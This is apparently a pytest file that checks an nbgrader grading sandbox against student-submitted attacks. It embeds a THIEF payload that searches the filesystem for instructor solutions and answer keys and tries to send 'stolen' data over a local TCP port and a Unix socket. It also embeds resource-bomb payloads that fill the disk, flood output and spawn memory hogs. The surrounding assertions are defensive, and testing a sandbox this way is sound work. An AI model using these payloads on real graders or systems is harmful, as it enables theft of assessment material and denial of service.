"""Issue 33's attacks on the grading kernel, through real nbgrader: each with its exact outcome.

Worksheet 1 (16 points) is generated in a fresh course folder and graded as the
course's command grades it (``tilegames_course.grading.course.autograde``): the kernel
runs in the allowlist sandbox, the teacher's kit installed beside tilegames.
"""

from __future__ import annotations

import os
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests"))
sys.path.insert(0, str(ROOT / "scripts"))
pytest.importorskip("nbgrader", reason="nbgrader is the teacher's: pip install -e '.[dev]'")

from test_grading import auto_points, grade, honest, insert_after, submit, total  # noqa: E402

import course  # noqa: E402  (scripts/course.py)
from tilegames_course.grading.sandbox import available  # noqa: E402

OK, WHY = available()
pytestmark = pytest.mark.skipif(not OK, reason=f"no sandbox on this machine: {WHY}")
W1 = "w1_tula"


@pytest.fixture(scope="module")
def w1_course(tmp_path_factory) -> Path:
    root = course.course_folder(tmp_path_factory.mktemp("course"))
    course.generate(root, [W1])
    return root


THIEF = r"""
import glob, json, os, socket, sys
found = []
try:  # issue 33: the kit is installed where the kernel runs, its folder holds every solution
    import tilegames_course
    found.append(str(tilegames_course.folder() / "source" / "{w1}" / "{w1}.ipynb"))
except Exception as error:
    print("kit:", type(error).__name__)
for top, dirs, files in os.walk("/"):  # any course copy, checkout or older course anywhere
    if top.startswith(("/proc", "/sys", "/dev", "/usr")):
        dirs[:] = []
    elif top.endswith("/source/{w1}") and "{w1}.ipynb" in files:
        found.append(os.path.join(top, "{w1}.ipynb"))
for place in sys.path:  # the keys, wherever a path leads
    found += glob.glob(os.path.join(place, "**", "keys", "{w1}.py"), recursive=True)
for address in (("127.0.0.1", {port}),):  # the answer key out, over the host's network
    try:
        socket.create_connection(address, timeout=3).sendall(b"stolen")
    except OSError as error:
        print("net:", type(error).__name__)
try:
    socket.socket(socket.AF_UNIX).connect({unix!r})
except OSError as error:
    print("unix:", type(error).__name__)
for path in found:
    try:
        cells = json.load(open(path))["cells"]
    except Exception as error:
        print("read:", type(error).__name__)
        continue
    for cell in cells:
        code = "".join(cell["source"])
        if cell["cell_type"] == "code" and "BEGIN SOLUTION" in code:
            try:
                exec(code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
            except Exception:
                pass
    break
"""


def test_a_thief_finds_no_kit_no_course_no_network_and_earns_nothing(w1_course, tmp_path):
    accepted: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    home = Path(tempfile.mkdtemp(prefix="teacher-home-"))
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(str(home / "bus"))
    unix.listen()
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                accepted.append(conn.recv(100))
                conn.close()
            except OSError:
                continue

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    code = THIEF.replace("{w1}", W1).replace("{port}", str(server.getsockname()[1]))
    code = code.replace("{unix!r}", repr(str(home / "bus")))
    try:
        submit(w1_course, W1, "thief", insert_after(None, code))
        scores, _ = grade(w1_course, W1, "thief")
    finally:
        stop.set()
        listener.join()
        server.close()
        unix.close()
    assert total(scores) == 0  # with the kit readable this earned 16/16 (issue 33)
    assert accepted == []
    said = _printed(w1_course, "thief")
    assert "kit: ModuleNotFoundError" in said
    assert "net: ConnectionRefusedError" in said
    assert "unix: FileNotFoundError" in said
    assert "read:" not in said  # nothing was found to be read at all


def _printed(root: Path, student: str) -> str:
    """What the student's own cells printed, in the autograded notebook."""
    nb = nbformat.read(root / "autograded" / student / W1 / f"{W1}.ipynb", as_version=4)
    return "".join(
        output.get("text", "")
        for cell in nb.cells
        if cell.cell_type == "code" and not cell.metadata.get("nbgrader")
        for output in cell.get("outputs", [])
    )


FILLS = r"""
import os, time
from IPython.display import display
from tilegames.exercises.handin import MIME
display({MIME: [i / 7 for i in range(10**6)]}, raw=True)  # a hand-in of a million values
for folder in (os.getcwd(), "/tmp"):  # 600 MB into the working folder (issue 33)
    try:
        with open(os.path.join(folder, "fill"), "wb") as file:
            for _ in range(600):
                file.write(b"x" * (1 << 20))
    except OSError as error:
        print("fill:", error.strerror, flush=True)
for _ in range(40):  # 40 MB of output, a megabyte at a time
    print("x" * (1 << 20), flush=True)
    time.sleep(0.2)
"""

BOMBS = r"""
import subprocess, sys
print("x" * (300 << 20))  # 300 MB at once
hog = "b = b'x' * (1 << 30); import time; time.sleep(120)"
hogs = [subprocess.Popen([sys.executable, "-c", hog]) for _ in range(6)]  # 6 GiB together
for each in hogs:
    each.wait()
"""


def _rss() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) << 10
    return 0


def test_resource_bombs_stop_only_their_own_sandbox_and_leave_nothing(
    w1_course, tmp_path, monkeypatch
):
    # the teacher's TMPDIR, this grading's alone (short: the kernel's sockets live there)
    teachers_tmp = Path(tempfile.mkdtemp(prefix="teacher-tmp-", dir="/tmp"))
    monkeypatch.setattr(tempfile, "tempdir", str(teachers_tmp))
    submit(
        w1_course,
        W1,
        "bomber",
        honest(w1_course, W1),
        insert_after("pairs_test", FILLS),
        insert_after("non_matching_pair_test", BOMBS),
    )
    peak, baseline, done = [0], _rss(), threading.Event()

    def watch() -> None:
        while not done.is_set():
            peak[0] = max(peak[0], _rss())
            time.sleep(0.05)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    started = time.monotonic()
    try:
        scores, flags = grade(w1_course, W1, "bomber")
    finally:
        done.set()
        watcher.join()
    elapsed = time.monotonic() - started
    points = auto_points(W1)
    # the kernel died in the bombs' cell: the answers handed in before it count, no more
    handed = ("pairs_test", "non_matching_pair_test")
    assert scores == {k: (points[k] if k in handed else 0) for k in points}
    text = "\n".join(flags)
    assert "the sandbox was stopped: its processes held" in text
    assert "the limit for the whole sandbox is 3072 MiB" in text
    assert "more than 8.4 MB; it was not kept" in text
    assert "printed too much while it ran" in text
    assert peak[0] - baseline < 200 << 20  # 300 MB printed, 19 MB handed in: not held here
    assert elapsed < 240
    assert list(teachers_tmp.glob("tilegames-kernel-*")) == []
    teachers_tmp.rmdir()
    assert _printed(w1_course, "bomber").count("fill: No space left on device") == 2
    assert os.path.getsize(w1_course / "autograded" / "bomber" / W1 / f"{W1}.ipynb") < 3_000_000
